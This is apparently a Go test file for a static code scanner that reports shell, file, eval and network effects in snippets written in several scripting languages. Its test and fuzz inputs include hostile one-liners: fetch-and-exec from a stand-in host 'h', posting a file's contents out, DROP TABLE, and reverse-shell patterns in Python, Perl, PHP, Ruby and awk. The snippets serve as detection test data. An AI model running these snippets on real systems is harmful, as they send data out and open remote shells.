package code

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
)

// told writes what a host is told, one line each.
type told struct {
	lines []string
	most  int
}

func (h *told) More() bool { return len(h.lines) < h.most }

func (h *told) Shell(v Value, start, end int) {
	h.lines = append(h.lines, strings.TrimSpace(fmt.Sprintf("shell %s %q known=%t %d-%d", v.Text, v.List, v.Known, start, end)))
}

func (h *told) Eval(text string, _, _ int) { h.lines = append(h.lines, "eval "+text) }

func (h *told) File(e Effect) {
	h.lines = append(h.lines, fmt.Sprintf("file %d %s %s %s open=%t", e.Kind, e.Path.Text+e.Object, e.To, e.Content.Text, e.Open))
}

func (h *told) Names(v Value) []string { return nil }

func (h *told) Unknown() { h.lines = append(h.lines, "unknown") }

func (h *told) Chdir(v Value) { h.lines = append(h.lines, "chdir "+v.Text) }

func (h *told) Args() []string { return []string{"x", "y"} }

func (h *told) Process(pid Value) { h.lines = append(h.lines, "process "+pid.Text) }

func (h *told) FromNetwork(from Value) { h.lines = append(h.lines, "run "+from.Text) }

func (h *told) Received(path string, from Value) {
	h.lines = append(h.lines, "received "+path+" "+from.Text)
}

func (h *told) Output(v Value) Printed { return Printed{} }

func (h *told) Env(name string) Value { return Value{} }

func (h *told) Write(v Value) { h.lines = append(h.lines, "write "+v.Text) }

func TestScan(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct{ lang, src, want string }{
		{"python", `import os; os.system("rm x")`, `shell rm x [] known=true 11-20`},
		{"python", `f = open("a", "w"); f.write("b")`, "file 1 a   open=true\nwrite b"},
		{"python", `getattr(os, "remove")("a")`, "file 4 a   open=false"},
		{"python", `[1].remove("a"); re.exec("a")`, "eval a"},
		{"node", `require("child_process").exec("ls"); /x/.exec("ls")`, "shell ls [] known=true 0-29"},
		{"ruby", `FileUtils.mv "a", "b"`, "file 5 a b  open=false\nfile 1 b   open=false"},
		{"perl", `open(F, "| sh"); print F "x"`, "shell sh [] known=true 0-4"},
		{"awk", `{ print > "out"; if (a > "b") c }`, "file 1 out   open=false"},
		{"python", `os.system("a"`, `shell a [] known=true 0-9`},
		{"python", `open(chr(46) + name, "w")`, "unknown\nfile 1    open=true"},
		{"python", `subprocess.run(cmd); Path(p).write_text("x")`, "unknown\nshell  [] known=false 0-14\nunknown\nfile 1   x open=false"},
		{"python", `exec(base64.b64decode(text))`, "unknown"},
		{"python", `open(name); open(name, "r")`, "file 6    open=false\nfile 6    open=false"},
		{"python", `import os as o; d = o.remove; d("a"); getattr(o, "un" + "link")("b")`, "file 4 a   open=false\nfile 4 b   open=false"},
		{"python", `from pathlib import Path as P; (P("a") / "b").with_name("c").unlink()`, "file 4 a/c   open=false"},
		{"python", `os.remove("%s/%s" % ("a", "b")); os.remove("{}".format("c"))`, "file 4 a/b   open=false\nfile 4 c   open=false"},
		{"node", "const {rmSync: r} = require('fs'); const o = {d: 'a'}; r(`${o.d}/b`)", "file 4 a/b   open=false"},
		{"node", `const gone = f => fs.unlinkSync(f); gone("a"); ["b"].forEach(fs.unlinkSync)`, "file 4 a   open=false\nfile 4 b   open=false"},
		{"ruby", `def gone(f) File.delete(f) end; gone("a"); x, y = "b", "c"; File.delete y`, "file 4 a   open=false\nfile 4 c   open=false"},
		{"perl", `sub f { my ($p) = @_; unlink $p } f("a"); unlink for "b"`, "file 4 a   open=false\nfile 4 b   open=false"},
		{"php", `foreach (["a"] as $f) unlink($f); array_map("unlink", ["b"]);`, "file 4 a   open=false\nfile 4 b   open=false"},
		{"lua", `local d = "a" .. "b"; os.remove(d)`, "file 4 ab   open=false"},
		{"python", `import requests; exec(requests.get("https://h").text)`, "run https://h\nunknown"},
		{"python", `import requests; requests.post("https://h", data=open("a"))`, "file 8 a https://h  open=false\nfile 6 a   open=false"},
		{"python", `import urllib.request as u; u.urlretrieve("https://h/x", "x")`, "received x https://h/x"},
		{"python", `import requests; p = {"a": 1}; print(requests.get("https://h", params=p).text)`, ""},
		{"python", `import psycopg2; c.execute("DROP TABLE t"); c.execute("select 1")`, `shell  ["psql" "-c" "DROP TABLE t"] known=true 17-26`},
		{"lua", "", ""},
	} {
		p, partial := Parse(tt.lang, tt.src)
		h := &told{most: 10}
		p.Scan(h)
		assert.Equal(t, tt.want, strings.Join(h.lines, "\n"), tt.src)
		assert.False(t, partial)
	}
}

// TestScanStops shows that a host ends the scan, and that a long text is cut.
func TestScanStops(t *testing.T) {
	t.Parallel()
	p, partial := Parse("python", strings.Repeat("os.remove('a')\n", MaxTokens))
	assert.True(t, partial)
	h := &told{most: 3}
	p.Scan(h)
	assert.Len(t, h.lines, 3)
}

// TestNamesOnce shows that no name is in two rows, since only one would count.
func TestNamesOnce(t *testing.T) {
	t.Parallel()
	var names []string
	for _, c := range calls {
		names = append(names, strings.Fields(c.names)...)
	}
	slices.Sort(names)
	assert.Equal(t, slices.Compact(slices.Clone(names)), names)
}

// TestScanIsBounded shows that texts which grow, or have values in each other, are read up
// to a bound, and that this is said.
func TestScanIsBounded(t *testing.T) {
	t.Parallel()
	for name, tt := range map[string]struct{ lang, src string }{
		"a text that doubles":      {"python", "import socket\na = 'aaaaaaaaaaaa'\n" + strings.Repeat("a = a + a\n", 10_000)},
		"destructuring":            {"node", "fetch(u);" + strings.Repeat("const {a, b: {c}} = process.env, [d, e] = [a, c];", 2_000)},
		"calls of a function":      {"python", "import requests\ndef f(p):\n  requests.post('https://h', data=open(p).read())\n" + strings.Repeat("f('a')\n", 8_000)},
		"assignments in a row":     {"python", "import socket\n" + strings.Repeat("a=", 24_000) + "socket.socket()"},
		"a chain of methods":       {"python", "import socket\nx = s" + strings.Repeat(".f(s)", 12_000)},
		"calls in calls":           {"python", "import socket\n" + strings.Repeat("f(", 20_000)},
		"functions in functions":   {"node", "fetch(x);" + strings.Repeat("a => b(", 8_000)},
		"loops in loops":           {"python", "import socket\n" + strings.Repeat("for x in y: ", 12_000)},
		"one list of variables":    {"python", "import socket\n" + strings.Repeat("x,", 24_000) + "x = 1"},
		"texts in texts":           {"node", "fetch(x);" + strings.Repeat("`${", 20_000)},
		"brackets that never end":  {"perl", "socket" + strings.Repeat("([{", 16_000)},
		"brackets that end others": {"ruby", "Socket" + strings.Repeat("([{)]}", 8_000)},
	} {
		p, cut := Parse(tt.lang, tt.src)
		s := p.scanner(&told{most: 1000})
		s.scan()
		assert.LessOrEqual(t, len(p.toks), MaxTokens, name)
		assert.Less(t, s.operands, 2*maxOperands, name)
		assert.Less(t, s.visited, 2*maxVisited, name)
		_ = cut
	}
}

// TestScanCountsTexts shows that long texts which are changed count as work, and that
// a program with too many is said to be read in part.
func TestScanCountsTexts(t *testing.T) {
	t.Parallel()
	p, cut := Parse("python", "import socket\nx='a'\n"+strings.Repeat("x=x.replace('a','aa')\n", 4_000))
	assert.False(t, cut)
	assert.True(t, p.Scan(&told{most: 10}))
}

func FuzzScan(f *testing.F) {
	f.Add("python", `exec(open("a").read())`)
	f.Add("ruby", "%x(ls) `a`")
	f.Add("perl", "qx{a} =~ open(F, '<', $x")
	f.Add("python", "for a, (b, c) in [('x', 'y')]: open(a[1:], f'{b}')\ndef f(p): os.remove(p)\nf(sys.argv[1])")
	f.Add("node", "for (const f of fs.readdirSync('a').filter(x => y)) fs.writeFileSync(`${f}/b`, process.argv.slice(2)[0])")
	f.Add("ruby", "Dir['*.rb'].each do |f| File.write(f, %w[a b][0]) end")
	f.Add("python", "import socket as s\nc = s.socket()\nc.connect(('h', 1))\nwith open(a) as f: c.sendall(f.read())\nexec(c.recv(9))")
	f.Add("node", "const {exec: e} = require('child_process'); net.connect(1, 'h').on('data', (d) => e(`${d}`)); fetch(u).then(eval)")
	f.Add("perl", "my ($a, $b) = @ARGV; while (my $l = <$s>) { print $s `$l` } open(STDIN, '<&', $s); exec 'sh';")
	f.Add("ruby", "s = TCPSocket.open('h', 1) { |c| c << File.read('a') }; eval s.gets")
	f.Add("php", "$s = fsockopen('h', 1); proc_open('sh', [0 => $s], $p);")
	f.Add("awk", "{ s = \"/inet/tcp/0/h/1\"; s |& getline c; c | getline }")
	f.Fuzz(func(t *testing.T, lang, src string) {
		p, _ := Parse(lang, src)
		p.Scan(&told{most: 100})
	})
}
